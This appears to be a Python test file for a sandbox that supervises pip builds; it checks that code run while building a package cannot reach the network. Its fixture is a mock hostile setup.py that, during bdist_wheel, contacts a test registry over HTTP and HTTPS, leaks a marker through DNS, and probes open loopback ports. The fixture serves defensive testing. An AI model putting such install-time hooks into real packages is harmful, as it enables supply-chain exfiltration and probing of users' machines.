"""Code of a package that pip builds reaches not even the registry that pip itself reaches."""

import os

import environment
import packages
from network_case import NetworkCase, leave_out_supervised
from small_internet import REGISTRY, RESOLVER
from venvs import light_venv
from world import new_marker

HOSTILE = """
import os, socket, ssl, struct, sys, threading, time
MARK = %r
def attempt(function):
    try: print(function.__name__, function(), file=sys.stderr)
    except Exception as error: print(function.__name__, repr(error), file=sys.stderr)
def http():
    s = socket.create_connection(("%s", 80), 3)
    s.sendall(("GET /http-%%s HTTP/1.1\\r\\nHost: registry.test\\r\\n\\r\\n" %% MARK).encode())
    return s.recv(20)
def https():
    s = ssl.create_default_context().wrap_socket(socket.create_connection(("%s", 443), 3),
                                                 server_hostname="registry.test")
    s.sendall(("GET /https-%%s HTTP/1.1\\r\\nHost: registry.test\\r\\n\\r\\n" %% MARK).encode())
    return s.recv(20)
def names(): return socket.getaddrinfo(MARK + ".registry.test", 80)
def datagrams():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return s.sendto(b"\\0\\7\\1\\0\\0\\1" + bytes(6) + bytes([len(MARK)]) + MARK.encode()
                    + b"\\0\\0\\1\\0\\1", ("%s", 53))
def loopback():
    ports = set()
    for file in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in open(file).readlines()[1:]:
            ports |= {int(name.split(":")[1], 16) for name in line.split()[1:3]}
    # 53 is the way to the broker, wherever it leads.
    return [port for port in ports - {53} if socket.socket().connect_ex(("127.0.0.1", port)) == 0]
if "bdist_wheel" in sys.argv:
    for function in (http, https, names, datagrams, loopback): attempt(function)
"""


class PackageCode(NetworkCase):
    def setUp(self):
        super().setUp()
        self.marker = new_marker().lower()
        folder = os.path.join(self.net.files, "sources")
        os.makedirs(folder, exist_ok=True)
        body = HOSTILE % (self.marker, REGISTRY, REGISTRY, RESOLVER)
        name = os.path.basename(packages.make_sdist(
            folder, "hostile", "6.6.6", {"setup.py": packages.setup_py("hostile", "6.6.6", body),
                                         "hostile.py": ""}))
        self.net.put("simple/hostile/index.html",
                     ('<a href="/sources/%s">%s</a>' % (name, name)).encode())

    def install(self, supervised):
        self.net.resolver.clear()
        world = self.new_world()
        light_venv(os.path.join(world.root, "venv"))
        argv = [os.path.join(world.root, "venv/bin/pip"), "install", "-v", "--no-build-isolation",
                "--no-cache-dir", "hostile"]
        return world, self.run_in(world, argv, supervised, timeout=150,
                                  env={"PIP_INDEX_URL": "https://registry.test/simple/"})

    def supervised_prefix(self, options=()):
        return [environment.safe_trace(), *options]

    def reached(self):
        paths = {path.split("-")[0] for _, _, path in self.net.requests() if self.marker in path}
        asked = self.marker.encode() in self.net.resolver.received()
        return paths | ({"names"} if asked else set())

    def test_ReachesNothing(self):
        _, outcome = self.install(False)
        self.assertEqual({"/http", "/https", "names"}, self.reached(), outcome.describe())
        if environment.safe_trace() is None:
            leave_out_supervised()
        for host in self.net.web:
            host.requests.clear()
        world, outcome = self.install(True)
        self.assertEqual(set(), self.reached(), outcome.describe())
        self.assertIn("loopback []", outcome.text, outcome.describe())
        trace = self.trace(world)
        whose = {"package.name": "hostile", "package.version": "6.6.6",
                 "safe_trace.role": "package"}
        for wanted in ([REGISTRY, "80"], [REGISTRY, "443"], [self.marker + ".registry.test"]):
            found = [event for event in trace.find(contains=wanted, refused=True)
                     if whose.items() <= event.items()]
            self.assertTrue(found, "%s\n%s" % (wanted, trace.describe()))
